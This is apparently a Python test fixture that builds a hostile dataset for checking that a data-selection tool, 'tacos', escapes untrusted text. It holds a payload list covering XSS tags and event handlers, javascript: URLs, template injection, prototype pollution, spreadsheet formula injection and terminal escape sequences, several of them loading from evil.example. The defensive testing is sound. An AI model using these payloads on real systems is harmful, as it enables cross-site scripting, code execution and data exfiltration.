"""Sixty samples that try to be more than text, and a data set made of them.

A sample that is taken for a program calls `hacked`, which the tests' browser reports; one that is
taken for markup leaves an element of the class `hostile`.
"""

import json
import zlib
from pathlib import Path
from typing import Any

from tests.server.fault_server import Behaviour, FaultServer
from tests.small_world import make_rows

import tacos

ESC = "\x1b"
MEGABYTE = 1 << 20

MARKUP = {
    "script": "<script>hacked('script')</script>",
    "script in capitals": "<SCRIPT>hacked('capitals')</SCRIPT>",
    "script from elsewhere": "<script src=//evil.example/x.js class=hostile></script>",
    "closing script": "</script><script>hacked('closing script')</script>",
    "closing script, spaced": "</script\n ><script>hacked('spaced')</script>",
    "closing style": "</style><script>hacked('closing style')</script>",
    "closing title": "</title><script>hacked('closing title')</script>",
    "closing textarea": "</textarea><script>hacked('textarea')</script>",
    "closing pre": "</pre></td></details><script>hacked('pre')</script>",
    "open comment": "<!-- <script> hacked('comment')",
    "comment and script": "<!--<script>--><script>hacked('double escape')</script>",
    "cdata": "<![CDATA[<script>hacked('cdata')</script>]]>",
    "image with an error": "<img class=hostile src=x onerror=hacked('image')>",
    "image of elsewhere": "<img class=hostile src=https://evil.example/pixel>",
    "body with a load": "<body class=hostile onload=hacked('body')>",
    "details that toggle": "<details class=hostile open ontoggle=hacked('toggle')>",
    "input with focus": "<input class=hostile autofocus onfocus=hacked('focus')>",
    "svg with a load": "<svg class=hostile onload=hacked('svg')></svg>",
    "svg with a script": "<svg class=hostile><script>hacked('svg script')</script></svg>",
    "svg with an animation": "<svg class=hostile><animate onbegin=hacked('animate') attributeName=x dur=1s></svg>",
    "math": "<math class=hostile><mtext></form><img src=x onerror=hacked('math')>",
    "frame": "<iframe class=hostile srcdoc='<script>parent.hacked(`frame`)</script>'></iframe>",
    "frame of elsewhere": "<iframe class=hostile src=https://evil.example/></iframe>",
    "object": "<object class=hostile data=data:text/html,<script>hacked('object')</script>>",
    "base": "<base class=hostile href=https://evil.example/>",
    "refresh": "<meta class=hostile http-equiv=refresh content='0;url=https://evil.example/'>",
    "style sheet": "<link class=hostile rel=stylesheet href=https://evil.example/x.css>",
    "style": "<style class=hostile>body{display:none;background:url(//evil.example/b)}</style>",
    "form": "<form class=hostile action=https://evil.example/><button autofocus>Go</button></form>",
    "marquee": "<marquee class=hostile onstart=hacked('marquee')>x</marquee>",
    "custom element": "<tacos-row class=hostile onclick=hacked('custom')>x</tacos-row>",
    "attribute, double quotes": '" autofocus onfocus="hacked(1)" class="hostile',
    "attribute, single quotes": "' autofocus onfocus='hacked(2)' class='hostile",
    "attribute, no quotes": "x onmouseover=hacked(3) style=position:fixed;inset:0 class=hostile",
    "entities": "&lt;script&gt;hacked('entities')&lt;/script&gt; &#60;b&#62; &amp;amp;",
}
ADDRESSES = {
    "javascript address": "javascript:hacked('address')",
    "javascript address, hidden": "java\tscript:hacked('hidden address')",
    "data address": "data:text/html,<script class=hostile>hacked('data')</script>",
    "markdown link": "[click](javascript:hacked('link')) [x]: https://evil.example/",
    "markdown image": "![x](https://evil.example/pixel.png)\n\n# Not a heading of ours\n---\nlicense: mine\n---",
}
TEMPLATES = {
    "jinja": "{{ 7 * 191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# gone #}",
    "script template": "${hacked('template')} `${1337}` #{1337} <%= 1337 %>",
    "python format": "{0.__class__} %(secret)s %s {row} {!r}",
    "vega expression": "datum.constructor.constructor('hacked(4)')()",
    "prototype": "__proto__ constructor.prototype.hostile = 1",
    "css": "red;}*{background:url(https://evil.example/css)}/*",
}
FORMULAS = {
    "equals": "=cmd|'/C calc'!A0",
    "plus": "+cmd|'/C calc'!A0",
    "minus": "-2+3+cmd|'/C calc'!A0",
    "at": "@SUM(1+9)*cmd|'/C calc'!A0",
    "tab": '\t=HYPERLINK("https://evil.example/","click")',
    "full width": "＝1＋1",
}
CHARACTERS = {
    "colours": f"{ESC}[31mred{ESC}[0m{ESC}]0;a title\a{ESC}[2J{ESC}[1;1H",
    "terminal link": f"{ESC}]8;;https://evil.example/{ESC}\\click{ESC}]8;;{ESC}\\",
    "8-bit controls": "\x9b31mred \x9d0;a title\x9c \x90q\x9c",
    "overwriting": "all is well\rall is lost\b\b\b\b\x7f",
    "direction": "user \u202e\u2066// admin\u2069 \u2066only\u2069",
    "right to left": "שלום עולם مرحبا بالعالم 123 abc",
    "look-alikes": "аdmin раypal ѕcript ＜script＞hacked(5)＜/script＞",
    "separators": "one\u2028two\u2029three\x85four\x00five",
}

HOSTILE = MARKUP | ADDRESSES | TEMPLATES | FORMULAS | CHARACTERS
"""Texts by what they try; each fits into one line of a table."""

FILE_NAME = "<img src=x onerror=hacked('file')> =1+1 [x](javascript:0)"
"""A file's name, and so its rows' source"""

MODEL_NAME = "<b class=hostile>tiny</b>"


def make_hostile_rows() -> list[dict[str, Any]]:
    """Each text as an instruction, a response, a tag and the name of a field. The last row is a
    word of a megabyte.
    """
    rows = []
    for number, (name, text) in enumerate(HOSTILE.items()):
        rows.append(
            {
                "instruction": f"{text}\n\nWhat is this, {name}?",
                "output": f"{text} {'It is only text. ' * (1 + number % 7)}",
                "tags": [text, name],
                "__proto__": {"hostile": text},
                text[:40]: name,
            }
        )
    rows.append({"instruction": "W" * MEGABYTE, "output": "<b class=hostile>" * 60_000})
    return rows


def write_hostile_file(folder: Path) -> Path:
    """The rows as JSON lines in a file whose name is markup."""
    path = folder / f"{FILE_NAME}.jsonl"
    lines = [json.dumps(row) for row in make_hostile_rows()]
    # Half a character, which JSON can write and no text can hold
    lines.append('{"instruction": "half \\ud83d of a smile", "output": "\\udc00 <b>"}')
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


def answer_hostile(text: str) -> str:
    """A reply of the fault server's model, with a hostile text in each tag and each reason."""
    reply = json.loads(text)
    message = reply["choices"][0]["message"]
    answer = json.loads(message["content"])
    draw = zlib.crc32(message["content"].encode())
    hostile = list(HOSTILE.values())[draw % len(HOSTILE)]
    if "analysis" in answer:
        answer["analysis"] = f"{hostile} A and B differ."
    for tag in answer.get("tags", []):
        tag["explanation"] = hostile
    if "tags" in answer:
        answer["tags"].append({"tag": hostile, "explanation": hostile})
    message["content"] = json.dumps(answer)
    return json.dumps(reply)


def select_hostile(folder: Path) -> tacos.Selection:
    """A run on the hostile file and 100 plain rows: all hostile rows are selected, 80 in all,
    tagged and compared by a language model that answers with them; its name is markup, too.
    """
    data = write_hostile_file(folder)
    with data.open("a", encoding="utf-8") as file:
        file.writelines("\n" + json.dumps(row) for row in make_rows(100))
    kept = [f"{data.name}:{number}" for number in range(len(HOSTILE) + 1)]
    with FaultServer(Behaviour(change=answer_hostile, model=MODEL_NAME)) as server:
        llm = {"base_url": server.url, "model": MODEL_NAME, "proxy": "none"}
        settings = {
            "llm": llm,
            "tag": {"model": "llm"},
            "judge": {"model": "llm"},
            "select": {"n": 80, "keep": kept},
            "normalise": {"alpha": 1},
        }
        return tacos.select(
            data,
            80,
            run=folder / "run <b class=hostile>",
            output=folder / "selected.jsonl",
            ledger=folder / "ledger.sqlite",
            settings=settings,
        )
